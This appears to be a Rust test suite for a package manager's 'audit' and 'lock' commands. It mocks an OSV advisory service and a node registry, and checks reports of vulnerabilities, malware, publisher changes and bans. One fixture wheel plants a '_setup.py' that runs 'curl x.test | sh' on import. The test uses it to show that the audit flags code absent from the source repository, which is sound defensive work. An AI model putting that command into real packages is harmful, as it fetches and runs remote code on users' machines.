//! `comfy audit`, and what `lock` tells of advisories and publishers: with a service that speaks OSV's
//! API, a registry and an index, all on this machine.

use std::collections::BTreeMap;
use std::fs;
use std::process::Command;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::hub::{Answer, Server};
use crate::index::release;
use crate::python::World;
use crate::registry::{Registry, archive};
use crate::support::{Upstream, git_or_skip};

/// Advisories by name and version of a package: id, summary, version in which it is fixed.
type Known = BTreeMap<(&'static str, &'static str), (&'static str, &'static str, &'static str)>;

/// OSV's API: `querybatch` names ids, `vulns` tells of one.
struct Service {
    server: Server,
    known: Arc<Mutex<Known>>,
}

impl Service {
    fn start() -> Service {
        let known = Arc::<Mutex<Known>>::default();
        let shared = known.clone();
        let server = Server::start(move |asked| {
            let known = shared.lock().unwrap();
            let answer = match asked.path.strip_prefix("/v1/vulns/") {
                None => {
                    let body: Value = serde_json::from_slice(&asked.body).unwrap();
                    let queries = body["queries"].as_array().unwrap();
                    let results: Vec<Value> = queries.iter().map(|q| found(&known, q)).collect();
                    json!({ "results": results })
                }
                Some(id) => record(&known, id),
            };
            Answer::new(200, answer.to_string().as_bytes())
                .header("Content-Type", "application/json")
        });
        Service { server, known }
    }

    fn tell(
        &self,
        of: (&'static str, &'static str),
        what: (&'static str, &'static str, &'static str),
    ) {
        self.known.lock().unwrap().insert(of, what);
    }

    fn set_up(&self, c: &mut Command) {
        c.env("COMFY_ADVISORY_SERVICE", self.server.url());
    }
}

fn found(known: &Known, query: &Value) -> Value {
    let is_asked = |(name, version): &(&str, &str)| {
        query["package"]["name"] == *name && query["version"] == *version
    };
    let vulns: Vec<Value> = known
        .iter()
        .filter(|(key, _)| is_asked(key))
        .map(|(_, (id, ..))| json!({ "id": id, "modified": "2026-01-01T00:00:00Z" }))
        .collect();
    match vulns.len() {
        0 => json!({}),
        _ => json!({ "vulns": vulns }),
    }
}

fn record(known: &Known, id: &str) -> Value {
    let ((name, version), (_, summary, fixed)) =
        known.iter().find(|(_, (known, ..))| *known == id).unwrap();
    let mut events = vec![json!({ "introduced": "0" })];
    if !fixed.is_empty() {
        events.push(json!({ "fixed": fixed }));
    }
    json!({
        "id": id,
        "modified": "2026-01-01T00:00:00Z",
        "published": "2026-01-01T00:00:00Z",
        "summary": summary,
        "details": "",
        "aliases": [],
        "affected": [{
            "package": { "ecosystem": "PyPI", "name": name },
            "versions": [version],
            "ranges": [{ "type": "ECOSYSTEM", "events": events }],
        }],
        "references": [{ "type": "WEB", "url": format!("https://osv.dev/{id}") }],
    })
}

/// One node that asks for `lib`.
fn world() -> Option<World> {
    let w = World::new("", &[("a", "lib\n")])?;
    w.index.wheels(&[("lib", "1.0")]);
    Some(w)
}

/// Without what the scan of code says.
fn unscanned(said: &str) -> String {
    let lines = said.lines().filter(|l| !l.starts_with("    scan: "));
    lines.map(|l| format!("{l}\n")).collect()
}

/// Without the port of a server, which differs, and without days.
fn steady(said: &str, server: &Server) -> String {
    let today = chrono::Local::now().date_naive();
    unscanned(said)
        .replace(server.url().trim_start_matches("http://"), "SERVICE")
        .replace(&today.format("%-d %B %Y").to_string(), "TODAY")
}

/// What an upload adds to a release is in no commit of its repository.
#[test]
fn what_a_wheel_has_and_its_repository_has_not_is_told() {
    let nodes = [("a", "lib\nclean\nhomeless\nuntagged\n")];
    let Some(w) = World::new("", &nodes) else {
        return;
    };
    let source = b"def f():\n    return 1\n";
    for name in ["lib", "clean", "untagged"] {
        let up = Upstream::new(&w.root.join("upstream"), &format!("up/{name}"));
        let path = format!("src/{name}/__init__.py");
        up.commit(&[(&path, source, 0o100_644)]);
        if name != "untagged" {
            up.tag("v1.0");
        }
    }
    let of = |name: &str, files: &[(&str, &[u8])]| {
        let mut out = release(name, "1.0").repository(&format!("https://github.com/up/{name}"));
        for (path, content) in files {
            out = out.file(&format!("{name}/{path}"), content);
        }
        out.wheel()
    };
    // As a build on Windows writes it.
    w.index.add(of(
        "clean",
        &[("__init__.py", b"def f():\r\n    return 1\r\n")],
    ));
    w.index.add(of(
        "lib",
        &[
            (
                "__init__.py",
                b"def f():\n    return 1\nimport lib._setup\n",
            ),
            ("_setup.py", b"import os; os.system('curl x.test | sh')\n"),
        ],
    ));
    w.index.add(of("untagged", &[("__init__.py", source)]));
    w.index.wheels(&[("homeless", "1.0")]);
    w.run(&["lock"]);
    let run = |args: &str| {
        w.with(args, |c| {
            c.env("COMFY_ADVISORY_SERVICE", "off");
        })
    };
    let said = [
        run("audit --sources"),
        run("audit --fail-on medium --sources lib clean"),
        run("audit --sources lob"),
    ];
    insta::assert_snapshot!(said.join("\n"), @"
    $ comfy audit --sources
    Not as in their repositories
      medium    lib 1.0
          1 of 2 Python files of lib-1.0-py3-none-any.whl is not in https://github.com/up/lib at v1.0: lib/_setup.py; 1 differs: lib/__init__.py

    1 finding: 1 medium.
    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    Repositories: the Python of 2 packages was compared.
    not compared with a repository: homeless: it names no repository on GitHub, GitLab or Codeberg
    not compared with a repository: untagged: https://github.com/up/untagged has no tag for this version

    $ comfy audit --fail-on medium --sources lib clean
    Not as in their repositories
      medium    lib 1.0
          1 of 2 Python files of lib-1.0-py3-none-any.whl is not in https://github.com/up/lib at v1.0: lib/_setup.py; 1 differs: lib/__init__.py

    1 finding: 1 medium.
    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    Repositories: the Python of 2 packages was compared.
    exit 2

    $ comfy audit --sources lob
    error: comfy.lock has no package `lob`
      hint: did you mean `lib`?
    exit 1
    ");
}

#[test]
fn packages_are_compared_with_a_service_and_malware_is_not_locked() {
    let Some(w) = world() else { return };
    let service = Service::start();
    service.tell(
        ("lib", "1.0"),
        ("GHSA-aaaa-bbbb-cccc", "Reads files", "1.1"),
    );
    let run = |args: &str| steady(&w.with(args, |c| service.set_up(c)), &service.server);
    let said = [
        run("lock"),
        run("lock"),
        run("audit"),
        run("audit --fail-on high"),
    ];
    insta::assert_snapshot!(said.join("\n"), @"
    $ comfy lock
    Added comfyui COMMIT
    Added a COMMIT
    Added lib 1.0
    warning: lib 1.0 is vulnerable: Reads files (GHSA-aaaa-bbbb-cccc); fixed in 1.1; asked for by node.a
    Locked 2 repositories, 1 Python package in comfy.lock.

    $ comfy lock
    comfy.lock is up to date (2 repositories, 1 Python package).

    $ comfy audit
    Vulnerabilities
      high      lib 1.0  GHSA-aaaa-bbbb-cccc
          Reads files
          fixed in 1.1; asked for by node.a
          https://osv.dev/GHSA-aaaa-bbbb-cccc

    1 finding: 1 high.
    Packages: 1 package compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.

    $ comfy audit --fail-on high
    Vulnerabilities
      high      lib 1.0  GHSA-aaaa-bbbb-cccc
          Reads files
          fixed in 1.1; asked for by node.a
          https://osv.dev/GHSA-aaaa-bbbb-cccc

    1 finding: 1 high.
    Packages: 1 package compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    exit 2
    ");

    w.index.wheels(&[("lib", "1.1"), ("lib", "1.2")]);
    service.tell(("lib", "1.2"), ("MAL-2026-1", "Malicious code in lib", ""));
    insta::assert_snapshot!(run("update"), @r#"
    $ comfy update
    error: lib 1.2 is malware: Malicious code in lib (MAL-2026-1); asked for by node.a
      hint: have another version locked, with `overrides = ["lib != 1.2"]` in [python], or remove what asks for it; `minimum_age` keeps releases of the last days away
    exit 1
    "#);

    // What was answered is kept; a service that is gone stops nothing.
    let url = service.server.url();
    drop(service);
    let gone = |args: &str| {
        let said = w.with(args, |c| {
            c.env("COMFY_ADVISORY_SERVICE", &url);
        });
        said.replace(url.trim_start_matches("http://"), "SERVICE")
    };
    w.python("overrides = [\"lib < 1.2\"]\n");
    let said = ["audit", "audit --offline", "update", "audit"].map(gone);
    insta::assert_snapshot!(said.join("\n"), @"
    $ comfy audit
    Vulnerabilities
      high      lib 1.0  GHSA-aaaa-bbbb-cccc
          Reads files
          fixed in 1.1; asked for by node.a
          https://osv.dev/GHSA-aaaa-bbbb-cccc

    1 finding: 1 high.
    Packages: 1 package compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    packages were not compared now: SERVICE: Connection refused (os error 111); 1 package from earlier answers

    $ comfy audit --offline
    Vulnerabilities
      high      lib 1.0  GHSA-aaaa-bbbb-cccc
          Reads files
          fixed in 1.1; asked for by node.a
          https://osv.dev/GHSA-aaaa-bbbb-cccc

    1 finding: 1 high.
    Packages: 1 package compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.

    $ comfy update
    Updated lib 1.0 -> 1.1
    packages were not compared with advisories: SERVICE: Connection refused (os error 111)
    Wrote comfy.lock. Review it with `comfy plan`, then commit it.

    $ comfy audit
    Nothing was found; not all packages were compared.
    Packages: none of 1 package was ever compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    packages were not compared now: SERVICE: Connection refused (os error 111); nothing was kept of earlier answers
    exit 2
    ");

    // What comfy knows by itself needs no service; neither does a table of one's own.
    w.index.wheels(&[("ultralytics", "8.3.41")]);
    w.python("requirements = [\"ultralytics\"]\noverrides = [\"lib != 1.2\"]\n");
    let table = json!({ "advisories": [{
        "id": "OWN-1",
        "summary": "We do not want it",
        "affected": [{
            "package": { "ecosystem": "PyPI", "name": "lib" },
            "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }] }],
        }],
        "database_specific": { "comfy": { "kind": "banned" } },
    }]});
    fs::write(w.root.join("own.json"), table.to_string()).unwrap();
    let said = w.run(&[
        "lock",
        "audit --advisories own.json",
        "audit --advisories https://example.com/own.json",
    ]);
    insta::assert_snapshot!(said, @r#"
    $ comfy lock
    error: ultralytics 8.3.41 is malware: ultralytics 8.3.41, 8.3.42, 8.3.45 and 8.3.46 run a crypto miner (COMFY-2024-0005); asked for by comfy.toml
      hint: have another version locked, with `overrides = ["ultralytics != 8.3.41"]` in [python], or remove what asks for it; `minimum_age` keeps releases of the last days away
    exit 1

    $ comfy audit --advisories own.json
    Banned
      critical  lib 1.1  OWN-1
          We do not want it
          no version is known in which it is fixed; asked for by node.a

    1 finding: 1 critical.
    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
    Nodes and ComfyUI: own.json.
    exit 2

    $ comfy audit --advisories https://example.com/own.json
    error: --advisories https://example.com/own.json: an address needs the hash of what it leads to
      hint: add #sha256= and the file's SHA-256 to the address
    exit 1
    "#);
}

#[test]
fn what_was_pinned_once_is_told_with_its_days() {
    if !git_or_skip() {
        return;
    }
    let Some(w) = world() else { return };
    let service = Service::start();
    let run = |args: &str| steady(&w.with(args, |c| service.set_up(c)), &service.server);
    let project = w.root.join("project");
    let git = |args: &[&str], date: &str| {
        let when = format!("{date}T12:00:00Z");
        let out = Command::new("git")
            .current_dir(&project)
            .env("HOME", w.root.join("home"))
            .env("GIT_AUTHOR_DATE", &when)
            .env("GIT_COMMITTER_DATE", &when)
            .args(["-c", "user.name=Alice", "-c", "user.email=a@localhost"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
    };
    let commit = |date: &str| {
        git(&["add", "."], date);
        git(&["commit", "-q", "-m", "Pins"], date);
    };
    git(&["init", "-q"], "2024-12-01");
    run("lock");
    commit("2024-12-01");
    w.index.wheels(&[("lib", "1.1"), ("lib", "1.2")]);
    w.python("overrides = [\"lib < 1.2\"]\n");
    run("update lib");
    commit("2024-12-03");
    let applied = run("apply --yes");
    assert!(applied.contains("Apply complete!"), "{applied}");
    w.python("");
    run("update lib");
    commit("2024-12-09");
    // It became known later.
    service.tell(("lib", "1.1"), ("MAL-2026-1", "Malicious code in lib", ""));
    insta::assert_snapshot!(run("audit --history"), @"
    $ comfy audit --history
    Nothing is known against what comfy.lock pins.
    Packages: 1 package compared with SERVICE.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.

    Earlier commits of comfy.lock
      critical  lib 1.1 is malware: Malicious code in lib (MAL-2026-1); asked for by node.a
          you ran it since TODAY (live on this machine); comfy.lock pinned it from 3 to 9 December 2024
    exit 2
    ");
}

#[test]
fn a_publisher_is_recorded_and_another_one_is_told() {
    let Some(w) = world() else { return };
    let lib = |version: &str| release("lib", version).wheel();
    w.index
        .add(lib("1.0").published_by("up/lib", "release.yml"));
    w.index.wheels(&[("dep", "1.0")]);
    w.python("requirements = [\"dep\"]\n");
    let mut said = vec![w.one("lock")];
    insta::assert_snapshot!(w.normal_lock(), @r#"
    [[python.packages]]
    name = "dep"
    version = "1.0"
    by = ["comfy.toml"]
    wheels = [
        { file = "dep-1.0-py3-none-any.whl", its sha256 and size },
    ]

    [[python.packages]]
    name = "lib"
    version = "1.0"
    by = ["node.a"]
    publisher = "github.com/up/lib release.yml"
    wheels = [
        { file = "lib-1.0-py3-none-any.whl", its sha256 and size },
    ]
    "#);
    w.index
        .add(lib("1.1").published_by("up/lib", "release.yml"));
    said.push(w.one("update lib"));
    w.index.add(lib("1.2").published_by("other/lib", "ci.yml"));
    said.push(w.one("update lib"));
    w.index.add(lib("1.3"));
    said.push(w.one("update lib"));
    // Nothing moved, so nobody is asked.
    w.index.asked();
    said.push(w.one("lock"));
    assert_eq!(w.index.asked(), Vec::<String>::new());
    insta::assert_snapshot!(unscanned(&said.join("\n")), @"
    $ comfy lock
    Added comfyui COMMIT
    Added a COMMIT
    Added dep 1.0
    Added lib 1.0
    Locked 2 repositories, 2 Python packages in comfy.lock.

    $ comfy update lib
    Updated lib 1.0 -> 1.1
    Wrote comfy.lock. Review it with `comfy plan`, then commit it.

    $ comfy update lib
    Updated lib 1.1 -> 1.2
    warning: lib: 1.1 was published by github.com/up/lib release.yml, and 1.2 by github.com/other/lib ci.yml: find out why before you apply it
    Wrote comfy.lock. Review it with `comfy plan`, then commit it.

    $ comfy update lib
    Updated lib 1.2 -> 1.3
    warning: lib: 1.2 was published by github.com/other/lib ci.yml, and 1.3 by nobody that the index can name: find out why before you apply it
    Wrote comfy.lock. Review it with `comfy plan`, then commit it.

    $ comfy lock
    comfy.lock is up to date (2 repositories, 2 Python packages).
    ");
}

#[test]
fn a_node_that_the_registry_bans_later_is_told() {
    let Some(w) = World::new("", &[]) else { return };
    let registry = Registry::start();
    let files = archive(&[("__init__.py", "NODE_CLASS_MAPPINGS = {}\n")]);
    registry.publish("1.0.4", "Active", files.clone());
    let run = |args: &str| w.with(args, |c| registry.set_up(c));
    run("add node kj-pack");
    run("lock");
    registry.publish("1.0.4", "Banned", files);
    insta::assert_snapshot!(run("audit"), @"
    $ comfy audit
    Banned
      critical  node.kj-pack 1.0.4
          the registry has banned this version; it gives no reasons

    1 finding: 1 critical.
    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
    Nodes and ComfyUI: comfy's own table of 2026-11-26.
    exit 2
    ");
}
